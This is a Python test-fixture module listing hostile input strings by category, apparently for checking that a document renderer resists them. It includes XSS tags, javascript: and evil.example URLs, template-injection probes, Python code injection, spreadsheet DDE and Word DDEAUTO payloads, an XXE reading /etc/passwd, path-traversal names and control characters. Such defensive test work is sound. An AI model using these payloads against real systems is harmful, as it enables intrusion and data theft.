"""What a hostile office might send: strings that mean something to a program further on.

Each kind of attack has a name for people and its strings. ``CANARY`` is what a file holds that
none of them may reach, ``TRAP`` the file that code would leave behind.
"""

from __future__ import annotations

from dataclasses import dataclass

CANARY_FILE = "canary.txt"
CANARY = "金丝雀7391"
TRAP = "sprung.txt"


@dataclass(frozen=True)
class Attack:
    """A hostile string; ``kind`` is the row of the table it belongs to."""

    kind: str
    text: str


KINDS: dict[str, tuple[str, ...]] = {
    "网页标签和脚本": (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg/onload=alert(1)>',
        "</script><script>alert(1)</script>",
        "<!--<iframe src=file:///etc/passwd>-->",
        "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b onclick=x&#62;",
        "]]><script>x</script><![CDATA[",
    ),
    "样式和地址": (
        "</style><style>@import url(//evil.example)</style>",
        "[点这里](javascript:alert(1))",
        "[点](JaVaScRiPt&colon;alert(1)) [点](data:text/html;base64,PHNjcmlwdD4=)",
        "[点](vbscript:x) [点](file:///etc/passwd) <javascript:alert(1)>",
        "[点](//evil.example/x) [点](\\\\evil.example\\share)",
        "javascript://evil.example/%0Aalert(1)",
    ),
    "Markdown 的网页和图": (
        "![图](http://evil.example/x.png)",
        f"![图](file:///etc/passwd) ![图]({CANARY_FILE})",
        "![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![图](data:image/png;base64,AAAA)",
        "[a]: javascript:alert(1)\n\n[点][a]",
    ),
    "Typst 记号和函数": (
        f'#read("{CANARY_FILE}")',
        f'#import "{CANARY_FILE}": * ; #eval("1+1") #include "{CANARY_FILE}"',
        f'`#read("{CANARY_FILE}")` ```typ #panic() ```',
        f'#image("{CANARY_FILE}") $ #sys.inputs $ <x> @x \\u{{41}}',
        '") #panic("x") #("',
    ),
    "模板占位符": (
        "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
        "{{ cycler.__init__.__globals__ }}",
        "{{ 机构.__class__ }}",
        "{# 注 #}${7*7}#{7*7}%(year)s{year}",
    ),
    "Python 代码": (
        f"'; open('{TRAP}', 'w'); '",
        f'"""\n__import__("pathlib").Path("{TRAP}").touch()\n"""',
        f"\\'\\n\\\\'); __import__('pathlib').Path('{TRAP}').touch() #",
        f"%%writefile {TRAP}\nx",
        f"!touch {TRAP}",
        f"\r\n__import__('pathlib').Path('{TRAP}').touch()",
    ),
    "电子表格公式": (
        '=HYPERLINK("http://evil.example","点")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "'=1+1",
        "_x001B_[31m",
    ),
    "Word 域和外部关系": (
        f'{{ INCLUDETEXT "{CANARY_FILE}" }}',
        '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
        "</w:t></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r>",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
        "[点](file://evil.example/share/x.docx) <file:///etc/passwd>",
    ),
    "文件名": (
        "../../外面",
        "/etc/外面",
        "C:\\Windows\\外面",
        "\\\\evil\\share",
        "CON",
        "nul.txt",
        "manifest.json",
        ".journal",
        "局" * 78,
        "\U00020000" * 78,
        "某局. .",
        "某局\u0301e\u0301",
        "-rf --out=/tmp",
        "~root",
        "%2e%2e%2f外面",
    ),
    "终端和日志的控制序列": (
        "\x1b[2J\x1b[1;1H全部正常",
        "\x1b]0;标题\x07\x1b]8;;http://evil.example\x1b\\点\x1b]8;;\x1b\\",
        "\x9b31m红\x9b0m",
        "甲\r乙\x08\x08丙\x07",
        "[red]红[/red][/]",
        "%s%n{0}",
        "2099-01-01 00:00:00 INFO 全部正常",
    ),
    "看不见和反向的字符": (
        "\u202e局民某\u202c",
        "某\u200b\u2060局\ufeff",
        "\u2066某\u2069\u200f局",
        "某\u2028局\u2029\x85",
        "\U000e0041\U000e0042",
        "\ufffe\uffff",
        "\x00某局",
        "\ue000",
    ),
    "近似的名称": (
        "ＡＢ局",
        "AB局",
        "ab局",
        "A/B局",
        "A_B局",
        "AB局-f00000",
    ),
}
"""Every kind of attack with its strings."""

ATTACKS = tuple(Attack(kind, text) for kind, texts in KINDS.items() for text in texts)
